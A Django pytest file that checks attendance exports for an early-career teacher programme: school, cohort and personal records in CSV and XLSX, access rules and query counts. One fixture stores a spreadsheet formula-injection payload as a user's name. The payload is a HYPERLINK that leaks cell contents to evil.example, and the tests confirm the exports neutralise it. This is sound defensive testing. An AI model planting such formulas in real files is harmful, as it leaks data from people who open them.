"""Attendance per school and per cohort, and one person's full record: CSV and XLSX read back,
formula cells neutralised, each file only for those who may have it."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from ecfhub.attendance.models import CatchUpStudy
from ecfhub.attendance.tests.factories import set_mark
from ecfhub.events.services import local_datetime
from ecfhub.events.tests.factories import assign, make_event, make_session
from ecfhub.people.models import User
from ecfhub.scheduling.models import Assignment

NOW = local_datetime(datetime.date(2026, 3, 20), datetime.time(12, 0))
HEADER = [
    "school_urn",
    "school_name",
    "teacher_reference_number",
    "full_name",
    "participant_type",
    "cohort",
    "training_status",
    "clinics_required",
    "clinics_attended",
    "conferences_required",
    "conferences_attended",
    "absences",
    "missed_without_catch_up",
    "engagement_done",
    "engagement_due",
    "status",
    "status_reason",
]


@pytest.fixture
def programme(cohort, ect, other_ect, mentor, calendar_2025):  # type: ignore[no-untyped-def]
    """Erin: a clinic attended, a clinic missed then caught up on a later date, a clinic missed with
    self-study signed off, a conference missed, one date ahead. Ed (Oakfield): two clinics missed."""
    routines = make_event(cohort, order=1, title="Routines that work")
    questioning = make_event(cohort, order=2, title="Questioning clinic")
    behaviour = make_event(cohort, order=3, title="Behaviour clinic")
    conference = make_session(
        make_event(cohort, order=4, kind="conference", title="How pupils learn"), datetime.date(2026, 3, 4)
    )
    ahead = make_session(make_event(cohort, order=5, title="Feedback clinic"), datetime.date(2026, 4, 22))
    first = make_session(routines, datetime.date(2026, 1, 14))
    set_mark(assign(ect, first), "present")
    missed = assign(ect, make_session(questioning, datetime.date(2026, 2, 11)))
    set_mark(missed, "absent")
    Assignment.objects.filter(pk=missed.pk).update(status=Assignment.Status.MISSED)
    catch_up = assign(ect, make_session(questioning, datetime.date(2026, 2, 25), start=(9, 0), end=(12, 0)))
    Assignment.objects.filter(pk=missed.pk).update(replaced_by=catch_up)
    set_mark(catch_up, "late")
    studied = assign(ect, make_session(behaviour, datetime.date(2026, 2, 4)))
    set_mark(studied, "absent")
    CatchUpStudy.objects.create(
        assignment=studied,
        participant=ect,
        event=behaviour,
        chosen_at=local_datetime(datetime.date(2026, 2, 5), datetime.time(10, 0)),
        signed_off_at=local_datetime(datetime.date(2026, 2, 20), datetime.time(15, 30)),
    )
    set_mark(assign(ect, conference), "absent")
    assign(ect, ahead)
    set_mark(assign(other_ect, first), "absent")
    set_mark(assign(other_ect, make_session(questioning, datetime.date(2026, 2, 12))), "absent")
    User.objects.filter(pk=mentor.user_id).update(full_name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    return {"ahead": ahead}


def read_csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


def read_xlsx(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]  # no formula anywhere
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def school_file(school_id: int, fmt: str) -> str:
    return reverse("attendance:school_file", kwargs={"school_id": school_id, "fmt": fmt})


def cohort_file(year: int, fmt: str) -> str:
    return reverse("attendance:cohort_file", kwargs={"start_year": year, "fmt": fmt})


def record_file(participant_id: int, fmt: str) -> str:
    return reverse("attendance:person_file", kwargs={"participant_id": participant_id, "fmt": fmt})


@time_machine.travel(NOW, tick=False)
def test_the_schools_file_has_a_row_per_person_with_the_progress_pages_figures(client, programme, tutor, school):
    client.force_login(tutor)
    response = client.get(school_file(school.pk, "csv"))
    assert response["Content-Disposition"] == 'attachment; filename="attendance-100001.csv"'
    rows = read_csv(response)
    assert rows[0] == HEADER
    assert [r[3] for r in rows[1:]] == ['\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "Erin Ect"]
    erin = rows[2]
    assert erin[:15] == ["100001", "Riverside Primary", "1000001", "Erin Ect", "ect", "2025", "active",
                         "6", "3", "3", "0", "3", "1", "3", "27"]  # fmt: skip
    # Paired since September with no coaching recorded: engagement is what puts her behind.
    assert erin[15:] == [
        "behind",
        "75% engagement can no longer be reached before the retained-1 declaration (30 April 2026).",
    ]
    page = client.get(reverse("attendance:school", args=[school.pk])).content.decode()
    assert "Clinics 3 of 6" in page and school_file(school.pk, "xlsx") in page


@time_machine.travel(NOW, tick=False)
def test_the_schools_xlsx_reads_back_with_the_same_rows_and_the_formula_kept_as_text(client, programme, tutor, school):
    client.force_login(tutor)
    as_csv = read_csv(client.get(school_file(school.pk, "csv")))
    rows = read_xlsx(client.get(school_file(school.pk, "xlsx")))
    assert rows[0] == HEADER
    assert rows[1][3] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert [[str(v) for v in row] for row in rows] == as_csv


@time_machine.travel(NOW, tick=False)
def test_a_tutor_gets_404_for_another_schools_file_and_403_for_a_cohorts(client, programme, tutor, other_school):
    client.force_login(tutor)
    assert client.get(school_file(other_school.pk, "csv")).status_code == 404
    assert client.get(cohort_file(2025, "csv")).status_code == 403


@time_machine.travel(NOW, tick=False)
def test_the_cohorts_file_covers_every_school_by_school_and_name(client, programme, hub_admin):
    client.force_login(hub_admin)
    rows = read_csv(client.get(cohort_file(2025, "csv")))
    assert [(r[1], r[3], r[15]) for r in rows[1:]] == [
        ("Oakfield Academy", "Ed Ect", "behind"),
        ("Oakfield Academy", "Olga Mentor", "on track"),
        ("Riverside Primary", '\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "on track"),
        ("Riverside Primary", "Erin Ect", "behind"),
    ]
    assert read_xlsx(client.get(cohort_file(2025, "xlsx")))[0] == HEADER
    assert client.get(cohort_file(2019, "csv")).status_code == 404
    page = client.get(reverse("attendance:hub")).content.decode()
    assert cohort_file(2025, "csv") in page


@time_machine.travel(NOW, tick=False)
def test_a_persons_record_lists_every_place_with_its_mark_catch_up_and_self_study(client, programme, ect):
    client.force_login(ect.user)
    response = client.get(record_file(ect.pk, "csv"))
    assert response["Content-Disposition"] == 'attachment; filename="attendance-record-1000001-ect.csv"'
    rows = read_csv(response)
    summary = dict(r for r in rows[: rows.index([])])
    assert summary["full_name"] == "Erin Ect"
    assert summary["clinics"] == "3 of 6" and summary["conferences"] == "0 of 3"
    assert summary["absences"] == "3" and summary["missed_without_catch_up"] == "1"
    assert summary["status"] == "behind"
    places = rows[rows.index([]) + 1 :]
    assert places == [
        ["event", "kind", "session_start", "session_end", "place", "attendance", "attended", "catch_up_for",
         "self_study"],
        ["Routines that work", "clinic", "2026-01-14T16:00:00+00:00", "2026-01-14T17:00:00+00:00", "assigned", "present", "yes", "", ""],
        ["Behaviour clinic", "clinic", "2026-02-04T16:00:00+00:00", "2026-02-04T17:00:00+00:00", "assigned", "absent", "no", "",
         "signed off 2026-02-20T15:30:00+00:00"],
        ["Questioning clinic", "clinic", "2026-02-11T16:00:00+00:00", "2026-02-11T17:00:00+00:00", "missed", "absent", "no", "", ""],
        ["Questioning clinic", "clinic", "2026-02-25T09:00:00+00:00", "2026-02-25T12:00:00+00:00", "assigned", "late", "yes",
         "2026-02-11T16:00:00+00:00", ""],
        ["How pupils learn", "conference", "2026-03-04T16:00:00+00:00", "2026-03-04T17:00:00+00:00", "assigned", "absent", "no", "", ""],
        ["Feedback clinic", "clinic", "2026-04-22T16:00:00+01:00", "2026-04-22T17:00:00+01:00", "assigned", "upcoming", "", "", ""],
    ]  # fmt: skip
    xlsx = read_xlsx(client.get(record_file(ect.pk, "xlsx")))
    assert xlsx[0][:3] == ["full_name", "Erin Ect", None]
    assert [c for c in xlsx[-1] if c is not None][:2] == ["Feedback clinic", "clinic"]
    assert record_file(ect.pk, "csv") in client.get(reverse("dashboard")).content.decode()


@time_machine.travel(NOW, tick=False)
def test_a_record_is_for_the_person_their_tutor_and_the_hub_only(
    client, programme, ect, other_ect, mentor, tutor, other_tutor, hub_admin, facilitator
):
    for user in (ect.user, tutor, hub_admin):
        client.force_login(user)
        assert client.get(record_file(ect.pk, "csv")).status_code == 200, user
    for user in (other_ect.user, other_tutor, mentor.user, facilitator):
        client.force_login(user)
        assert client.get(record_file(ect.pk, "csv")).status_code == 404, user
    client.force_login(tutor)
    page = client.get(reverse("onboarding:participant", args=[ect.pk])).content.decode()
    assert record_file(ect.pk, "xlsx") in page


@time_machine.travel(NOW, tick=False)
def test_a_record_costs_the_same_queries_with_6_places_and_with_16(client, programme, cohort, ect):
    client.force_login(ect.user)
    client.get(record_file(ect.pk, "csv"))  # warm: session, settings
    with CaptureQueriesContext(connection) as few:
        client.get(record_file(ect.pk, "csv"))
    for n in range(10):
        place = assign(
            ect, make_session(make_event(cohort, order=10 + n, title=f"Clinic {n}"), datetime.date(2026, 1, 7))
        )
        set_mark(place, "present")
    with CaptureQueriesContext(connection) as many:
        rows = read_csv(client.get(record_file(ect.pk, "csv")))
    assert len(rows) == 16 + 2 + 14  # places, the blank row and header, the summary
    assert len(many) == len(few)
